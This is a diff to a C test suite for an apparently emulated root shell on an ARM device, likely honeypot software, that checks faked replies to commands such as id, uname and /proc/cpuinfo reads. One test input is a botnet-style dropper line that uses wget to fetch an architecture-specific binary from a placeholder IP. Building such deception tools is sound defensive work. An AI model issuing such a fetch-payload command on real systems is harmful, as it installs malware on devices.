@@ -225,8 +225,10 @@ test_parser(void)
 	        "a  b c d e /rootx $HOME\n");
 	/* substitutions run our own commands (a level down) */
 	CHECK_STR(run("echo $(id)x`uname`y \"$(echo a; echo b)\" $((1+2))"),
-	        "uid=0(root) gid=0(root) groups=0(root),10(wheel)xLinuxy a\nb "
-	        "\n");
+	        LURE_SHELL_LANG ? "uid=0(root) gid=0(root) groups=0(root),"
+	                          "10(wheel)xLinuxy a\nb 3\n"
+	                        : "uid=0(root) gid=0(root) groups=0(root),"
+	                          "10(wheel)xLinuxy a\nb \n");
 	CHECK_STR(run("wget http://198.51.100.4/bins/$(uname -m) -q"),
 	        "Connecting to 198.51.100.4:80 (198.51.100.4:80)\nwget: can't "
 	        "connect to remote host (198.51.100.4): Connection refused\n");
@@ -249,7 +251,7 @@ test_parser(void)
 	CHECK_STR(
 	        run("cat /proc/cpuinfo | grep -c processor; cat /proc/cpuinfo "
 	            "| grep 'model name' | head -n 1"),
-	        "4\nmodel name\t: ARMv7 Processor rev 5 (v7l)\n");
+	        "2\nmodel name\t: ARMv7 Processor rev 5 (v7l)\n");
 	CHECK_STR(run("busybox | head -1 | tail -c 12"), "all binary.\n");
 	CHECK_STR(run("echo 'echo a b; uname' | sh | wc"),
 	        "        2         3        10\n");
@@ -275,7 +277,7 @@ test_parser(void)
 	CHECK_STR(run("uname; uname -m -r; uname -p"),
 	        "Linux\n5.4.61 armv7l\nunknown\n");
 	CHECK_STR(run("id; whoami; nproc"),
-	        "uid=0(root) gid=0(root) groups=0(root),10(wheel)\nroot\n4\n");
+	        "uid=0(root) gid=0(root) groups=0(root),10(wheel)\nroot\n2\n");
 	CHECK_STR(run("kill 1; kill 4242"),
 	        "sh: can't kill pid 4242: No such process\n");
 	/* a NUL and controls are bytes like any other */
@@ -337,7 +339,7 @@ test_limits(void)
 	/* output is cut at cap (and at SHELL_OUT) */
 	run_n("cat /proc/cpuinfo", 17, 100);
 	CHECK(outlen == 100 && out[100] == 0);
-	run("cat /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo");
+	run("cat /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo");
 	CHECK(outlen == SHELL_OUT);
 	/* a line over SHELL_LINE is cut and flagged */
 	memset(big, 'e', sizeof big);
